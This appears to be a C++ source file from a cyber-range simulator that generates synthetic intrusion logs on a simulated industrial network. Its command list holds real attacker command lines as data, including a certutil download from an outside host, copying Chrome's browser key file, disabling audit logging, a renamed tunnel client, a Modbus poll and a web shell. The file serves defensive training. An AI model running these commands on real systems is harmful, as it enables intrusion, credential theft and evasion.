#include "range/further_steps.h"

#include <string>

#include <fmt/format.h>

#include "range/remote_desktop.h"

namespace landwarden::range {
namespace {

constexpr std::int64_t kNight =
    2 * 24 * 60 + 3 * 60 + 40;  // minutes from the beginning, behind the second visit

struct Typed {
  std::string_view image, line, what;
};
constexpr Typed kTyped[] = {
    {"C:\\Windows\\System32\\ldifde.exe", "ldifde.exe -f c:\\windows\\temp\\cisco_up.txt -p subtree",
     "the directory is exported"},
    {"C:\\Windows\\System32\\dnscmd.exe", "dnscmd EVW-DC01 /enumzones", "zones are listed"},
    {"C:\\Users\\Public\\sl.exe", "sl.exe -bhpt 22,80,443,502,3389 10.20.50.1-10.20.50.254",
     "the network is scanned"},
    {"C:\\Windows\\System32\\certutil.exe",
     "certutil -urlcache -split -f http://203.0.113.77/update.txt c:\\users\\public\\update.exe",
     "a tool is fetched"},
    {"C:\\Users\\Public\\SMSvcService.exe", "SMSvcService.exe -c c:\\users\\public\\frpc.ini",
     "a tunnel client under another name"},
    {"C:\\Windows\\System32\\cmd.exe",
     "cmd.exe /c copy \"C:\\Users\\adm-itops\\AppData\\Local\\Google\\Chrome\\User Data\\Local State\" "
     "C:\\Windows\\Temp\\ls.tmp",
     "the browser's key is copied"},
    {"C:\\Windows\\System32\\auditpol.exe",
     "auditpol /set /subcategory:\"Process Creation\" /success:disable", "auditing is switched off"},
    {"C:\\Users\\Public\\svchost.exe", "C:\\Users\\Public\\svchost.exe -k netsvcs",
     "a program under a system name"},
    {"C:\\Users\\Public\\mbpoll.exe", "mbpoll.exe -m tcp -r 1 -c 10 10.20.50.31",
     "a session towards the control network"},
};

void visit(World& world, Time time, std::vector<Step>& steps) {
  Machine& jump = world.machine("EVW-JUMP01");
  const Account& vendor = account("vendor.pumps");
  const RemoteDesktop desktop =
      open_remote_desktop(world, time, vendor, "203.0.113.24", "DESKTOP-7Q2M1K", jump, true);
  steps.push_back({later(time, 2'400), "EVW-JUMP01", kSessionChannel, 21, "203.0.113.24",
                   "a remote desktop straight from the internet"});
  const Process console =
      jump.run_console(later(time, 40'000), desktop.shell, "C:\\Windows\\System32\\cmd.exe",
                       "\"C:\\Windows\\system32\\cmd.exe\" ", desktop.session, 1'800'000);
  Time now = later(time, 60'000);
  for (const Typed& typed : kTyped) {
    now = later(now, 30'000 + jump.dice().between(0, 9'000));
    const Process run =
        jump.run(now, console, std::string(typed.image), std::string(typed.line), desktop.session, 1'500);
    if (typed.image.ends_with("mbpoll.exe")) jump.connect(later(now, 90), run, "10.20.50.31", "", 502);
    steps.push_back({now, "EVW-JUMP01", kSysmonChannel, 1, std::string(typed.line), std::string(typed.what)});
  }
  close_remote_desktop(jump, later(now, 90'000), desktop);

  // A web shell in the historian's web server.
  Machine& historian = world.machine("EVW-HIST01");
  const Process web = historian.start(
      later(now, 120'000), historian.resident(Resident::services), "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
      "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"Historian\"", historian.system());
  const Time called = later(now, 130'000);
  historian.run(called, web, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami", historian.system(), 600);
  steps.push_back(
      {called, "EVW-HIST01", kSecurityChannel, 4688, "cmd.exe /c whoami", "a web server starts a shell"});
}

}  // namespace

void plan_further_steps(World& world, std::vector<Step>& steps) {
  world.at(minutes_later(world.begin(), kNight), [&world, &steps](Time time) { visit(world, time, steps); });
}

}  // namespace landwarden::range
